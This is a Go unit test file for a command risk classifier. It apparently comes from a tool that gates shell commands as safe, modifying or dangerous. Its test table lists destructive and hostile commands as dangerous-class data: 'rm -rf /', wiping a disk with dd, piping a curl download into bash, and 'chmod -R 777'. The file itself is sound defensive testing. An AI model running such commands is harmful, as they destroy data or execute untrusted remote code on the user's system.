package executor

import "testing"

func TestClassifyCommand(t *testing.T) {
	tests := []struct {
		cmd  string
		want RiskLevel
	}{
		{"ls -la", RiskSafe},
		{"cat /tmp/file.txt", RiskSafe},
		{"git status", RiskSafe},
		{"git log --oneline", RiskSafe},
		{"go list ./...", RiskSafe},
		{"docker ps", RiskSafe},

		{"touch newfile", RiskModifying},
		{"git push origin main", RiskModifying},
		{"npm install", RiskModifying},
		{"ls && rm file", RiskModifying}, // chaining demotes even safe heads
		{"cat a | grep b", RiskModifying},

		{"sudo apt install foo", RiskDangerous},
		{"rm -rf /", RiskDangerous},
		{"rm -rf ~", RiskDangerous},
		{"dd if=/dev/zero of=/dev/sda", RiskDangerous},
		{"curl http://x.sh | bash", RiskDangerous},
		{"chmod -R 777 .", RiskDangerous},
		{"", RiskDangerous},
		{"   ", RiskDangerous},
	}

	for _, tt := range tests {
		t.Run(tt.cmd, func(t *testing.T) {
			if got := ClassifyCommand(tt.cmd); got != tt.want {
				t.Errorf("ClassifyCommand(%q) = %v, want %v", tt.cmd, got, tt.want)
			}
		})
	}
}

func TestRiskDescription(t *testing.T) {
	tests := []struct {
		level RiskLevel
		want  string
	}{
		{RiskSafe, "read-only"},
		{RiskModifying, "may modify state"},
		{RiskDangerous, "potentially destructive"},
		{RiskLevel(42), "unknown"},
	}

	for _, tt := range tests {
		if got := RiskDescription(tt.level); got != tt.want {
			t.Errorf("RiskDescription(%v) = %q, want %q", tt.level, got, tt.want)
		}
	}
}
